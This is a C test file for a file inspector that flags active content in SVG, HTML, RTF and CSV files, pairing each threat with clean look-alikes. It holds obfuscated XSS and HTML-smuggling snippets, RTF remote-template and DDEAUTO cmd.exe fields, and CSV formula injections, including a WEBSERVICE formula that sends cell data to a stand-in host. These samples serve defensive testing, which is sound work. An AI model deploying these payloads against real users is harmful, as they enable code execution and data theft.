/*
 * test_inspect_markup.c - active content in markup and text formats
 * (inspect_markup.c and its readers): SVG parsed as XML, HTML smuggling
 * read through the HTML parser and the script reader, RTF fields,
 * templates and objects, formulas in CSV. Each threat is written the way
 * attackers hide it (namespace prefixes, character references, split
 * strings, escapes, fields cut across groups...), and each has harmless
 * twins that must give no reason.
 */
#include "airlock/inspect.h"

#include <string.h>

#define EXEC AL_REASON_BIT(AL_REASON_EXECUTABLE)
#define MACRO AL_REASON_BIT(AL_REASON_MACRO)
#define LIMITS AL_REASON_BIT(AL_REASON_LIMITS)

struct markup_case {
	const char *label;
	const char *name;
	const char *text;
	al_reason_set expected;
};

static al_reason_set inspect(const char *text, gsize len, const char *name)
{
	g_autoptr(GPtrArray) details = g_ptr_array_new_with_free_func(g_free);
	al_reason_set reasons = al_inspect_buffer((const guint8 *)text, len, name, details);

	/* One sentence per finding at least. */
	g_assert_cmpuint(details->len, >=, (guint)__builtin_popcount(reasons));
	return reasons;
}

static void run_cases(const struct markup_case *cases, gsize n)
{
	for (gsize i = 0; i < n; i++) {
		gsize len = strlen(cases[i].text);

		g_test_message("%s", cases[i].label);
		g_assert_cmphex(inspect(cases[i].text, len, cases[i].name), ==, cases[i].expected);
		/* Every cut of the file is read without a crash (truncated mail). */
		for (gsize cut = 0; cut < len; cut += 7)
			(void)inspect(cases[i].text, cut, cases[i].name);
	}
}

#define SVG_OPEN "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"

static void test_markup_svg(void)
{
	static const struct markup_case cases[] = {
		{ "script", "a.svg", SVG_OPEN "<script>alert(1)</script></svg>", EXEC },
		{ "prefixed script", "a.svg",
		  "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:rect width=\"1\"/>"
		  "<svg:script><![CDATA[alert(1)]]></svg:script></svg:svg>",
		  EXEC },
		{ "script in a default namespace on another element", "image.svg",
		  "<?xml version=\"1.0\"?><g:svg xmlns:g=\"http://www.w3.org/2000/svg\">"
		  "<script xmlns=\"http://www.w3.org/2000/svg\">alert(1)</script></g:svg>",
		  EXEC },
		{ "event handler", "a.svg", SVG_OPEN "<rect onload=\"alert(1)\"/></svg>", EXEC },
		{ "javascript: written with character references", "a.svg",
		  SVG_OPEN "<a xlink:href=\"&#106;&#x61;vascript&#58;alert(1)\"><rect/></a></svg>",
		  EXEC },
		{ "javascript: cut by a tab", "a.svg",
		  SVG_OPEN "<a href=\" java&#9;script:alert(1)\"><rect/></a></svg>", EXEC },
		{ "set to javascript:", "a.svg",
		  SVG_OPEN "<a><set attributeName=\"href\" to=\"javascript:alert(1)\"/>"
			   "<text>x</text></a></svg>",
		  EXEC },
		{ "animate values", "a.svg",
		  SVG_OPEN "<a><animate attributeName=\"href\" values=\"#a;javascript:alert(1)\"/>"
			   "</a></svg>",
		  EXEC },
		{ "foreignObject iframe", "a.svg",
		  SVG_OPEN "<foreignObject width=\"10\" height=\"10\"><iframe "
			   "xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://example.org/\"/>"
			   "</foreignObject></svg>",
		  EXEC },
		{ "data:text/html link", "a.svg",
		  SVG_OPEN "<a href=\"data:text/html;base64,PGI+eDwvYj4=\"><rect/></a></svg>", EXEC },
		{ "script from a declared entity", "a.svg",
		  "<!DOCTYPE svg [<!ENTITY s \"<script>alert(1)</script>\">]>" SVG_OPEN
		  "&s;</svg>",
		  EXEC },
		{ "not XML, read as HTML", "a.svg",
		  "<svg><rect width=1><script>alert(1)</script></svg", EXEC },
		{ "unnamed, found by content", NULL,
		  "<?xml version=\"1.0\"?>\n" SVG_OPEN "<rect onclick='alert(1)'/></svg>", EXEC },
		{ "clean logo", "logo.svg",
		  "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" SVG_OPEN
		  "<title>Logo</title><defs><linearGradient id=\"g\"><stop offset=\"0\"/>"
		  "</linearGradient></defs><rect width=\"10\" height=\"10\" fill=\"url(#g)\"/>"
		  "<image xlink:href=\"data:image/png;base64,iVBORw0KGgo=\"/>"
		  "<a href=\"https://example.org/\"><text>online</text></a>"
		  "<use xlink:href=\"#g\"/></svg>",
		  0 },
		{ "clean diagram with HTML labels", "diagram.svg",
		  SVG_OPEN "<foreignObject width=\"90\" height=\"20\"><div "
			   "xmlns=\"http://www.w3.org/1999/xhtml\"><b>Reception</b> desk</div>"
			   "</foreignObject><animate attributeName=\"opacity\" values=\"0;1\"/></svg>",
		  0 },
	};

	run_cases(cases, G_N_ELEMENTS(cases));
}

static void test_markup_svg_entity_bomb_is_bounded(void)
{
	GString *bomb = g_string_new("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a0 \"x\">");

	for (int i = 1; i < 30; i++)
		g_string_append_printf(bomb, "<!ENTITY a%d \"&a%d;&a%d;&a%d;&a%d;\">", i, i - 1,
				       i - 1, i - 1, i - 1);
	g_string_append(bomb, "]>" SVG_OPEN "<text>&a29;</text><rect title=\"&a29;\"/></svg>");
	/* Whatever libxml2 makes of it, the walk ends and runs no script. */
	g_assert_cmphex(inspect(bomb->str, bomb->len, "bomb.svg") & EXEC, ==, 0);
	g_string_free(bomb, TRUE);
}

static void test_markup_html_smuggling_obfuscated(void)
{
	GString *payload = g_string_new("<html><body><script>var w = window; var d = w['at' + "
					"'ob'](\"");
	static const struct markup_case cases[] = {
		{ "fromCharCode and bracket access", "invoice.html",
		  "<html><script>var u = window[String.fromCharCode(85,82,76)];"
		  "var f = u[String.fromCharCode(99,114,101,97,116,101,79,98,106,101,99,116,85,82,76)];"
		  "var b = new window['Bl' + 'ob']([x]); var a = document.createElement('a');"
		  "a.href = f(b); a['down' + 'load'] = 'x.iso'; a.click();</script></html>",
		  EXEC },
		{ "array join", "invoice.htm",
		  "<html><script>navigator[['msSave', 'OrOpen', 'Blob'].join('')](b, 'x.zip');"
		  "</script></html>",
		  EXEC },
		{ "escapes", "a.html",
		  "<html><script>var b = new \\u0042lob([x]); URL['\\x63reateObjectURL'](b);"
		  "document.links[0]['\\x64ownload'] = 'a.exe';</script></html>",
		  EXEC },
		{ "reversed strings", "a.html",
		  "<html><script>var n = 'bolBnepOrOevaSsm'.split('').reverse().join('');"
		  "navigator[n](b);</script></html>",
		  EXEC },
		{ "atob of a name", "a.html",
		  "<html><script>navigator[atob('bXNTYXZlT3JPcGVuQmxvYg==')](b);</script></html>",
		  EXEC },
		{ "data: URL built by script", "a.html",
		  "<html><body><a id=x>get</a><script>var l = document.getElementById('x');"
		  "l.setAttribute('href', 'data:' + 'appli' + 'cation/octet-stream;base64,' + p);"
		  "</script></body></html>",
		  EXEC },
		{ "meta refresh to data:", "a.html",
		  "<html><head><meta http-equiv=\"Refresh\" content=\"0; URL=data:text/html;base64,"
		  "PGgxPmhpPC9oMT4=\"></head></html>",
		  EXEC },
		{ "srcdoc", "a.html",
		  "<html><iframe srcdoc=\"<script>navigator.msSaveOrOpenBlob(b)</script>\"></iframe>"
		  "</html>",
		  EXEC },
		{ "event handler", "a.html",
		  "<html><body onload=\"navigator['msSaveOr'+'OpenBlob'](b)\"></body></html>", EXEC },
		{ "unnamed second HTML part", NULL,
		  "<body><p>Invoice</p><script>navigator.msSaveBlob(b, 'x.zip')</script></body>",
		  EXEC },
		{ "clean newsletter", "news.html",
		  "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>News</title>"
		  "<style>p { color: #333 }</style></head><body><h1>Spring news</h1>"
		  "<p>Our practice is open on Saturdays. <a href=\"https://example.org/hours\">"
		  "Hours</a> - download the leaflet at the desk.</p>"
		  "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"logo\">"
		  "<a href=\"mailto:desk@example.org\">Write to us</a></body></html>",
		  0 },
		{ "unnamed page with an inline SVG icon and a print button", NULL,
		  "<!DOCTYPE html><html><body><svg width=\"10\" height=\"10\"><circle r=\"4\"/>"
		  "</svg><button onclick=\"window.print()\">Print</button></body></html>",
		  0 },
		{ "clean page with ordinary script", "page.html",
		  "<html><script>document.title = 'Results ' + new Date().getFullYear();"
		  "var s = String.fromCharCode(72, 105);</script></html>",
		  0 },
	};

	run_cases(cases, G_N_ELEMENTS(cases));
	for (int i = 0; i < 100; i++)
		g_string_append(payload, "TVqQAAMAAAAEAAAA");
	g_string_append(payload, "\");</script></body></html>");
	g_assert_cmphex(inspect(payload->str, payload->len, "doc.html"), ==, EXEC);
	g_string_free(payload, TRUE);
}

#define RTF_HEAD "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\r\n"

static void test_markup_rtf(void)
{
	static const struct markup_case cases[] = {
		{ "remote template", "a.rtf",
		  RTF_HEAD "{\\*\\template http://198.51.100.7/t.dotm}\\pard Hello\\par}", MACRO },
		{ "UNC template", "a.doc",
		  RTF_HEAD "{\\*\\template \\\\\\\\198.51.100.7\\\\share\\\\t.dotm}\\pard x\\par}",
		  MACRO },
		{ "INCLUDEPICTURE cut across groups", "a.rtf",
		  RTF_HEAD "{\\field{\\*\\fldinst {IN}{CLUDE}{PICTURE \"http://192.0.2.1/p.png\" "
			   "\\\\d}}{\\fldrslt x}}}",
		  MACRO },
		{ "INCLUDEPICTURE with hex escapes", "a.rtf",
		  RTF_HEAD "{\\field{\\*\\fldinst INCLUDEPICTURE \"\\'68ttps://example.org/a.png\"}"
			   "{\\fldrslt }}}",
		  MACRO },
		{ "DDEAUTO", "a.rtf",
		  RTF_HEAD "{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
			   "\"/k calc.exe\"}{\\fldrslt }}}",
		  MACRO },
		{ "DDE written with \\u", "a.rtf",
		  RTF_HEAD "{\\field{\\*\\fldinst \\u68?\\u68?E cmd \"/c calc\"}{\\fldrslt }}}",
		  MACRO },
		{ "linked object", "a.rtf",
		  RTF_HEAD "{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}"
			   "{\\*\\objdata 0105}}}",
		  MACRO },
		{ "package object", "a.rtf",
		  RTF_HEAD "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000}}}",
		  MACRO },
		{ "only a header", "a.rtf", "{\\rtf1", 0 },
		{ "clean letter with a picture and a hyperlink", "letter.rtf",
		  RTF_HEAD "\\pard Dear colleague,\\par {\\pict\\pngblip\\picw10\\pich10 89504e47}"
			   "{\\field{\\*\\fldinst HYPERLINK \"https://example.org/\"}{\\fldrslt site}}"
			   "{\\field{\\*\\fldinst INCLUDEPICTURE \"C:\\\\\\\\img\\\\\\\\logo.png\"}"
			   "{\\fldrslt }}{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}\\par}",
		  0 },
		{ "\\bin data is skipped", "b.rtf",
		  RTF_HEAD "{\\pict\\bin23 {\\*\\template http://x/}}}\\par}", 0 },
	};
	GString *deep = g_string_new("{\\rtf1 ");

	run_cases(cases, G_N_ELEMENTS(cases));
	for (int i = 0; i < 600; i++)
		g_string_append_c(deep, '{');
	g_assert_cmphex(inspect(deep->str, deep->len, "deep.rtf"), ==, LIMITS);
	g_string_free(deep, TRUE);
}

static void test_markup_csv(void)
{
	static const struct markup_case cases[] = {
		{ "cmd DDE", "a.csv", "name,value\r\nx,=cmd|' /c calc'!A1\r\n", MACRO },
		{ "SUM then DDE", "a.csv", "a;@SUM(1+1)*cmd|' /C calc'!A0;b\n", MACRO },
		{ "plus DDE, quoted", "a.csv", "\"+cmd|' /c notepad'!A1\",x\n", MACRO },
		{ "minus DDE after blanks", "a.tsv", "x\t  -2+3+cmd|'/c calc'!A0\n", MACRO },
		{ "MSEXCEL", "a.txt", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\n",
		  MACRO },
		{ "HYPERLINK to a program", "a.csv",
		  "\"=HYPERLINK(\"\"http://192.0.2.5/update.exe\"\",\"\"Results\"\")\"\n", MACRO },
		{ "WEBSERVICE", "a.csv", "=WEBSERVICE(\"http://192.0.2.5/?\"&A1)\n", MACRO },
		{ "IMPORTXML", "a.csv", "x,=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")\n", MACRO },
		{ "clean lab values", "labs.csv",
		  "patient;test;value;delta;phone\r\n"
		  "DUPONT;glucose;5.2;-5.2;+33 1 23 45 67 89\r\n"
		  "MARTIN;\"sodium, serum\";140;+2;-\r\n"
		  "total;;=SUM(C2:C3);=D2-D3;\"=HYPERLINK(\"\"https://example.org/lab\"\")\"\r\n"
		  "note;\"a|b, see report!\";@home;-;\r\n",
		  0 },
		{ "DDE text in a file Excel does not open", "a.dat", "=cmd|' /c calc'!A1\n", 0 },
	};

	run_cases(cases, G_N_ELEMENTS(cases));
}

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/inspect_markup/svg", test_markup_svg);
	g_test_add_func("/inspect_markup/svg_entity_bomb_is_bounded",
			test_markup_svg_entity_bomb_is_bounded);
	g_test_add_func("/inspect_markup/html_smuggling_obfuscated",
			test_markup_html_smuggling_obfuscated);
	g_test_add_func("/inspect_markup/rtf", test_markup_rtf);
	g_test_add_func("/inspect_markup/csv", test_markup_csv);
	return g_test_run();
}
